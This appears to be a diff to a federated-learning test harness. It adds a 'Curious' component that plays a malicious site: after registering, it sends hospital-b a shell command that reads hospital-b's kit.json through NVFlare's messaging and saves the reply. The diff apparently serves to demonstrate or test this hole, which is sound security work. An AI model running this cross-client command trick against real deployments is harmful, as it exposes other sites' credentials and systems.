@@ -4,11 +4,16 @@ from __future__ import annotations
 
 import json
 import sys
+import threading
 import time
 from pathlib import Path
 
 import numpy as np
+from nvflare.apis.event_type import EventType
+from nvflare.apis.fl_component import FLComponent
 from nvflare.apis.fl_context import FLContext
+from nvflare.private.admin_defs import Message
+from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message
 
 from MAPSegLib.federated.exchange import Update
 from MAPSegLib.federated.flare_server import RoundController
@@ -94,6 +99,28 @@ class StandInController(RoundController):
         with open(self.folder / "work" / "arrived.jsonl", "a") as file:
             print(json.dumps(client_task.result, default=_outline), file=file)
         super()._receive(client_task, fl_ctx)
+
+
+class Curious(FLComponent):
+    """Of a site that means harm: asks hospital-b for a file of its own, by a message that names no command."""
+
+    def handle_event(self, event_type, fl_ctx):
+        if event_type == EventType.AFTER_CLIENT_REGISTER:
+            threading.Thread(target=self._ask, args=(fl_ctx.get_engine().get_cell(),), daemon=True).start()
+
+    def _ask(self, cell):
+        kits = Path.cwd().parents[1]
+        question = Message(SysCommandTopic.SHELL, f"cat {kits / 'hospital-b' / 'kit.json'}")
+        answer = cell.send_request(
+            target="hospital-b",
+            channel=CellChannel.CLIENT_MAIN,
+            topic=question.topic,
+            request=new_cell_message({}, question),
+            timeout=5,
+        )
+        part = kits / "told.part"
+        part.write_text(str(getattr(answer.payload, "body", None)))
+        part.rename(kits / "told.txt")
 
 
 def _outline(value):
